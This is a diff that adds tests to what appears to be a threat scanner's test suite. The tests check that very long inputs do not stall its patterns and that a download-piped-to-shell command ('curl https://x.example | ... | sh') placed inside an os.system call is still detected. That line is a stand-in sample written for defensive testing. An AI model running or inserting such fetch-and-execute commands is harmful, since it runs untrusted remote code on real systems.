@@ -370,3 +370,24 @@ describe('nothing is put out of sight', () => {
     expect(threatsOf(source)).toEqual([]);
   });
 });
+
+describe('what would keep a pattern busy for ever is over at once', () => {
+  it.each([
+    ['a long pipeline', `curl x ${'|  a   '.repeat(40)}x`],
+    ['many clones', 'git clone x; '.repeat(600)],
+  ])('%s', (_name, command) => {
+    expect(threatsOf(`import os\ndef f():\n    os.system("${command}")\n`)).toEqual([]);
+  });
+
+  it('a long word', () => {
+    const startedAt = performance.now();
+    expect(threatsOf(`x = "${'QUFB'.repeat(100_000)}"\n`)).toEqual([]);
+    expect(performance.now() - startedAt).toBeLessThan(20_000);
+  });
+
+  it('however long a command is, its threats are found', () => {
+    const pad = 'echo a; '.repeat(5_000);
+    const source = `import os\ndef f():\n    os.system("${pad}curl https://x.example | tee a 2>&1 | sh; ${pad}")\n`;
+    expect(threatsOf(source)).toEqual(['downloaded-code']);
+  });
+});
